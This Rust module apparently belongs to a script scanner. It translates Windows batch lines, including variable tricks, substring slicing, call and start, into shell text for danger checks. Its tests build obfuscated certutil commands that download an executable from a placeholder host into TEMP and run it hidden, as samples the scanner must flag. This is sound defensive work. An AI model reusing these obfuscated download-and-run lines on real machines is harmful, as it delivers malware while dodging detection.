//! Lines and files of the command interpreter of Windows as shell text: paths, variables, and words of its own.

use std::collections::BTreeMap;

/// 4 KiB of what one variable holds.
const HELD: usize = 4 << 10;

/// 40 pieces of one line that are replaced.
const PIECES: usize = 40;

/// Whether the line calls a file by a path with backslashes, itself or by PowerShell, or the interpreter by its name.
pub(super) fn is_one(line: &str) -> bool {
    let lower = line.trim_start().to_ascii_lowercase();
    let calls = ["cmd ", "cmd.exe "].iter().any(|start| lower.starts_with(start));
    let hosts = ["pwsh ", "pwsh.exe ", "powershell ", "powershell.exe "].iter().any(|start| lower.starts_with(start));
    let first = lower.split_whitespace().next().unwrap_or_default();
    calls
        || hosts && line.contains('\\') && lower.contains("-f")
        || first.contains('\\')
            && [".bat", ".cmd", ".ps1", ".exe"].iter().any(|end| first.trim_matches('"').ends_with(end))
}

/// The text as a shell would write it.
pub(super) fn in_shell(text: &str) -> String {
    let mut shell = String::with_capacity(text.len());
    let mut held = BTreeMap::new();
    for line in text.lines() {
        let line = pieced(line.trim().trim_start_matches('@'), &mut held);
        let line = line.as_str();
        let lower = line.to_ascii_lowercase();
        if ["rem ", "::", ":", "setlocal", "endlocal"].iter().any(|start| lower.starts_with(start)) {
            continue;
        }
        let line = single(line).replace('\\', "/").replace('^', "").replace(" & ", " ; ");
        let (before, line) = plain(&line);
        shell.push_str(&before);
        let mut line = variables(&hosted(&line));
        let lower = line.to_ascii_lowercase();
        for start in ["cmd.exe /c ", "cmd /c ", "cmd /k ", "cmd.exe /k ", "cmd /d /s /c ", "call ", "set "] {
            if lower.starts_with(start) {
                line = line.get(start.len()..).unwrap_or_default().to_owned();
                let inner = line.trim().strip_prefix('"').and_then(|line| line.strip_suffix('"'));
                line = inner.unwrap_or(&line).to_owned();
                break;
            }
        }
        shell.push_str(&started(&line));
        shell.push('\n');
    }
    shell
}

/// The line with PowerShell in place of a variable that is given a script to run: which of its two names it holds does not
/// matter.
fn hosted(line: &str) -> String {
    let is_file = line.to_ascii_lowercase().contains(" -file ");
    match line.split_once(char::is_whitespace).filter(|(first, _)| is_file && first.trim_matches('"').starts_with('%'))
    {
        Some((_, rest)) => format!("pwsh {rest}"),
        None => line.to_owned(),
    }
}

/// The line with one backslash where two part folders: whoever wrote it did so once too often.
fn single(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line.chars().peekable();
    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '}' | '%' | ')' | '.' | '_' | '-');
    while let Some(c) = rest.next() {
        if c == '\\' && out.ends_with(is_part) && rest.peek() == Some(&'\\') {
            rest.next();
        }
        out.push(c);
    }
    out
}

/// The line with every `%name:from=to%` and `%name:~1,2%` as the text that it comes to, where what the name holds is known;
/// what the line sets is held from then on.
pub(super) fn pieced(line: &str, held: &mut BTreeMap<String, String>) -> String {
    let mut line = line.to_owned();
    let is_called = line.to_ascii_lowercase().starts_with("call ");
    if is_called {
        // There every sign of a variable is written twice, and read in two steps.
        line = halved(&line, held);
    }
    if line.contains(['%', '!']) {
        line = once(&line, held);
    }
    for part in line.split('&') {
        let part = part.trim();
        let part = part
            .get(..5)
            .filter(|word| word.eq_ignore_ascii_case("call "))
            .map_or(part, |_| part.get(5..).unwrap_or(""));
        let set = part.get(..4).filter(|word| word.eq_ignore_ascii_case("set ")).and_then(|_| part.get(4..));
        let set = set.map(|set| set.trim().trim_matches('"')).filter(|set| !set.starts_with('/'));
        if let Some((name, value)) = set.and_then(|set| set.split_once('=')).filter(|(_, value)| value.len() < HELD) {
            held.insert(name.to_ascii_lowercase(), value.to_owned());
        }
    }
    line
}

/// The first of the two steps in which `call` reads its line: `%%` is a sign, `%name%` what the name holds.
fn halved(line: &str, held: &BTreeMap<String, String>) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some((before, after)) = rest.split_once('%') {
        out.push_str(before);
        if let Some(more) = after.strip_prefix('%') {
            out.push('%');
            rest = more;
            continue;
        }
        match after.split_once('%').and_then(|(inside, more)| Some((piece(inside, held)?, more))) {
            Some((text, more)) => {
                out.push_str(&text);
                rest = more;
            }
            None => {
                out.push('%');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// Each variable of which a piece is taken as what it comes to, from the inside out.
fn once(line: &str, held: &BTreeMap<String, String>) -> String {
    let mut line = line.to_owned();
    for sign in ['%', '!'] {
        let mut from = 0_usize;
        for _ in 0..PIECES {
            let found = line.get(from..).and_then(|rest| {
                let start = rest.find(sign)?.saturating_add(from);
                let end = line.get(start.saturating_add(1)..)?.find(sign)?.saturating_add(start).saturating_add(1);
                Some((start, end))
            });
            let Some((start, end)) = found else { break };
            let inside = line.get(start.saturating_add(1)..end).unwrap_or_default();
            // Where the text between is taken for a name is not said: the next sign may begin one.
            match piece(inside, held) {
                Some(text) => line.replace_range(start..=end, &text),
                None => from = if is_name(inside) { end.saturating_add(1) } else { end },
            }
        }
    }
    line
}

/// Whether a variable may be called that.
pub(super) fn is_name(text: &str) -> bool {
    !text.is_empty() && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// What `name:from=to`, `name:~1,2` or, where it is a piece of a name itself, `name` comes to.
fn piece(inside: &str, held: &BTreeMap<String, String>) -> Option<String> {
    let (name, change) = inside.split_once(':').map_or((inside, None), |(name, change)| (name, Some(change)));
    let text = held.get(&name.to_ascii_lowercase()).filter(|text| is_name(name) && !text.contains(['%', '!']))?;
    let Some(change) = change else {
        // What is a word is put in where it is used; a path stays the name that other lines have for it.
        return (!text.is_empty() && text.len() < 24 && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
            .then(|| text.clone());
    };
    if let Some(slice) = change.strip_prefix('~') {
        let (from, count) = slice.split_once(',').map_or((slice, None), |(from, count)| (from, Some(count)));
        let length = text.chars().count();
        let at = |number: &str| {
            let number: i64 = number.trim().parse().ok()?;
            let size = usize::try_from(number.unsigned_abs()).ok()?;
            Some(if number < 0 { length.saturating_sub(size) } else { size })
        };
        let from = at(from)?;
        let to = match count {
            Some(count) if count.trim().starts_with('-') => at(count)?,
            Some(count) => from.saturating_add(at(count)?),
            None => length,
        };
        return Some(text.chars().skip(from).take(to.saturating_sub(from)).collect());
    }
    let (old, new) = change.split_once('=').filter(|(old, _)| !old.is_empty())?;
    Some(text.replace(old, new))
}

/// `start "title" /b program` leaves it running; `start program` is the program.
fn started(line: &str) -> String {
    let lower = line.to_ascii_lowercase();
    let at = lower.find("start ").filter(|at| *at == 0 || lower.get(..*at).is_some_and(|before| before.ends_with(' ')));
    let Some((before, rest)) = at.and_then(|at| Some((line.get(..at)?, line.get(at.saturating_add(6)..)?))) else {
        return line.to_owned();
    };
    let mut rest = rest.trim_start();
    // The first text in quotes is a title, where more follows it.
    let titled = rest.strip_prefix('"').and_then(|rest| rest.split_once('"')).map(|(_, rest)| rest.trim_start());
    rest = titled.filter(|rest| !rest.is_empty()).unwrap_or(rest);
    let mut stays = false;
    while let Some((option, more)) =
        rest.split_once(' ').filter(|(option, _)| option.starts_with('/') && option.len() < 9)
    {
        stays |= option.eq_ignore_ascii_case("/b") || option.eq_ignore_ascii_case("/min");
        rest = more.trim_start();
    }
    format!("{before}{} {rest}", if stays { "nohup" } else { "env" })
}

/// A line without the questions and loops around its command, and what a loop reads from a command: `for /f %%i in ('…') do`.
fn plain(line: &str) -> (String, String) {
    let mut before = String::new();
    let mut rest = line.trim().trim_start_matches([')', '(', ' ']).to_owned();
    // 8 questions of one line.
    for _ in 0..8 {
        let lower = rest.to_ascii_lowercase();
        let cut = if let Some(asked) = lower.strip_prefix("if ") {
            let from = lower.len().saturating_sub(asked.len());
            from.saturating_add(question(asked))
        } else if lower.starts_with("else ") || lower == "else" {
            4
        } else if lower.starts_with("for ") {
            let Some(at) = lower.find(" do ") else { break };
            before.push_str(&looped(rest.get(..at).unwrap_or_default()));
            at.saturating_add(4)
        } else {
            break;
        };
        rest = rest.get(cut..).unwrap_or_default().trim_start_matches(['(', ' ', '@']).to_owned();
    }
    // A bracket that a block opens or closes.
    let opens = rest.matches('(').count();
    let closes = rest.matches(')').count();
    let is_left_over = opens > closes && rest.ends_with('(') || closes > opens && rest.ends_with(')');
    if is_left_over {
        rest.pop();
    }
    (before, rest.replace("%%", "$"))
}

/// How long the question after `if` is.
pub(super) fn question(asked: &str) -> usize {
    let mut at = 0_usize;
    let mut words = 1_usize;
    while let Some(rest) = asked.get(at..) {
        let blank = rest.len().saturating_sub(rest.trim_start().len());
        let rest = rest.trim_start();
        let quoted = rest.strip_prefix('"').and_then(|inside| inside.find('"')).map(|end| end.saturating_add(2));
        let from = quoted.unwrap_or(0);
        let end = rest.get(from..).and_then(|rest| rest.find(' ')).map_or(rest.len(), |end| end.saturating_add(from));
        let word = rest.get(..end).unwrap_or_default();
        at = at.saturating_add(blank).saturating_add(end);
        match word {
            "" => break,
            "not" | "/i" => {}
            "exist" | "defined" | "errorlevel" => words = 1,
            "==" | "equ" | "neq" | "lss" | "leq" | "gtr" | "geq" => words = 1,
            _ => {
                words = words.saturating_sub(1);
                let next = asked.get(at..).unwrap_or_default().trim_start();
                let compares =
                    ["==", "equ ", "neq ", "lss ", "leq ", "gtr ", "geq "].iter().any(|s| next.starts_with(s));
                if words == 0 && !compares {
                    break;
                }
            }
        }
    }
    at
}

/// `for /f %%i in ('command')` as `i=$(command)`.
fn looped(head: &str) -> String {
    let name = head.split("%%").nth(1).and_then(|rest| rest.chars().next()).unwrap_or('i');
    let inside = head.split_once('(').map(|(_, rest)| rest.trim_end().trim_end_matches(')').trim());
    let command = inside.and_then(|inside| {
        let open = inside.chars().next().filter(|c| matches!(c, '\'' | '`'))?;
        inside.strip_prefix(open)?.strip_suffix(open)
    });
    command.map_or_else(String::new, |command| format!("{name}=$({})\n", variables(command)))
}

/// `%NAME%` as `${NAME}`, `%~dp0` as the folder of the script.
fn variables(line: &str) -> String {
    let line = line.replace("%~dp0", "./").replace("%*", "\"$@\"");
    let mut out = String::with_capacity(line.len());
    let mut rest = line.as_str();
    while let Some((before, after)) = rest.split_once('%') {
        out.push_str(before);
        match after.split_once('%') {
            Some((name, more)) if !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') => {
                out.push_str(&format!("${{{name}}}"));
                rest = more;
            }
            _ => {
                out.push('%');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::{Findings, Place, Severity};
    use crate::shell::{Context, judge};

    fn worst(text: &str) -> Option<Severity> {
        let mut findings = Findings::default();
        judge(&Place::bundle(), &in_shell(text), Context::Script, &mut findings);
        findings.finish().into_iter().map(|finding| finding.severity).max()
    }

    #[test]
    fn names_that_are_put_together_are_the_programs_that_they_come_to() {
        const GET: &str = "-urlcache -f https://d.invalid/t.exe \"%t%\" >nul\r\nstart \"\" /b \"%t%\"\r\n";
        for text in [
            "set \"a=certreq\" & set \"b=util\"\r\ncall set \"a=%%a:req=%b%%%\"\r\n%a% ",
            "set x=cert\r\nset y=util\r\n%x%%y% ",
            "set x=abcertutilxy\r\n%x:~2,8% ",
            "setlocal EnableDelayedExpansion\r\nset x=cert-util\r\n!x:-=! ",
            "certutil ",
        ] {
            let whole = format!("@echo off\r\nset \"t=%TEMP%\\t.exe\"\r\n{text}{GET}");
            assert_eq!(worst(&whole), Some(Severity::Danger), "{}", in_shell(&whole));
        }
    }

    #[test]
    fn folders_between_two_backslashes_are_folders() {
        assert_eq!(single("a\\\\b\\c.cmd"), "a\\b\\c.cmd");
        assert_eq!(single("\\\\server\\share"), "\\\\server\\share");
    }

    #[test]
    fn pieces_of_paths_and_times_stay_what_they_are() {
        for text in [
            "set d=%DATE:~0,4%\r\necho %d% built 50%% of %1\r\n",
            "set \"p=%~dp0\"\r\nset \"p=%p:\\=/%\"\r\necho \"%p%\"\r\n",
            "set file=%1\r\ndotnet format --include \"%file:~0,-3%\"\r\n",
        ] {
            assert!(worst(text).is_none_or(|severity| severity < Severity::Danger), "{}", in_shell(text));
        }
    }

    #[test]
    fn scripts_that_powershell_is_given_by_paths_of_windows_are_called() {
        assert!(is_one("powershell.exe -NoProfile -File .\\hooks\\tabs.ps1"));
        assert!(!is_one("pwsh -NoProfile -File hooks/tabs.ps1"));
        assert!(!is_one("node hooks\\a.js"));
        let text = "%PS% -NoProfile -File \"%~dp0prefix.ps1\" %*\r\n";
        let mut findings = Findings::default();
        let calls = judge(&Place::file("a.cmd"), &in_shell(text), Context::Script, &mut findings);
        assert!(calls.iter().any(|call| call.path.ends_with("prefix.ps1")), "{}", in_shell(text));
    }
}
